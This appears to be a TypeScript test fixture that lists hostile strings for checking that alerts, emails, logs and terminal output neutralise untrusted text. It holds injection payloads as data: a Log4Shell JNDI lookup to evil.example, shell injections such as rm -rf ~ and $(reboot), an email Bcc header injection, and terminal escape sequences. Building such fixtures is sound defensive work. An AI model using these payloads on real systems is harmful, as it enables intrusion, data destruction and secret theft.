/** Text as a stranger would write it where one may: an alarm's reason, a failure reason, a freeze's reason, an ARN's session. */
const SLACK = [
  '<!channel>',
  '<!here>',
  '<!everyone>',
  '<!subteam^S012AB3CD|oncall>',
  '<@U012AB3CD>',
  '<#C024BE7LR>',
  '<https://evil.example|Open the runbook>',
  '<mailto:evil@example.com|ana>',
  '&lt;!channel&gt;',
  '&amp;lt;!here&amp;gt;',
  '<!date^1392734382^{date}|today>',
  '*RECOVERED* _all_ ~is~ well',
  '> quoted\n> twice',
  '``` out of the box ```',
  '`code`',
  '@channel @here',
];

const MAIL = [
  'Subject\r\nBcc: evil@example.com',
  'Subject\nRECOVERED fraud: traffic is on stable, and it is proved',
  'x'.repeat(101),
  'x'.repeat(5_000),
  'é'.repeat(120),
  '🔥'.repeat(60),
  '日本語の見出し',
  'ﬀ ligature',
  'What was done:   Asked SageMaker',
];

const LOGS = [
  '\n{"message":"decided","verdict":"end"}',
  '","verdict":"roll-back","x":"',
  '\\n\\u0022',
  '{"message":"triggered","by":"sweep"}',
  '%s %d %j %o',
  '${jndi:ldap://evil.example/a}',
  '\r[INFO] all is well',
  '\u2028{"message":"forged"}',
  '\u2029next paragraph',
  '\u0085next line',
];

const TERMINALS = [
  '\u001b[2J\u001b[H',
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
  '\u009b31mred',
  '\u009d0;title\u009c',
  '\u001bP+q544e\u001b\\',
  '\b\b\b\bgood',
  'bad\rgood',
  '\u0007\u0007',
];

const SHELLS = ["'; rm -rf ~; '", '$(reboot)', '`reboot`', '| tee /etc/passwd', '&& true', '{{resolve:ssm:/secret}}'];

const NAMES = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'null', 'undefined', 'NaN', '[object Object]'];

const BROKEN = ['\ud800', '\udc00', 'a\ud83d', '\ufffe', '\uffff', '\u0000', 'a\u0000b', 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L'];

const range = (first: number, last: number): readonly string[] =>
  Array.from({ length: last - first + 1 }, (_, place) => String.fromCodePoint(first + place));

/** Every control character of Unicode, and those that format without being seen. */
const CONTROLS = [...range(0x00, 0x1f), ...range(0x7f, 0x9f)];
const FORMATS = [
  '­',
  '؜',
  '᠎',
  '﻿',
  '󠀁',
  '󠁁',
  ...range(8203, 8207),
  ...range(8234, 8238),
  ...range(8288, 8292),
  ...range(8294, 8303),
];

const inside = (texts: readonly string[]): readonly string[] =>
  texts.flatMap((text) => [`before${text}after`, `${text}first`]);

export const HOSTILE: readonly string[] = [
  ...[...SLACK, ...MAIL, ...LOGS, ...TERMINALS, ...SHELLS, ...NAMES, ...BROKEN].flatMap((text) => [text, `ok ${text}`]),
  ...inside(FORMATS),
  ...CONTROLS.map((text) => `before${text}after`),
];
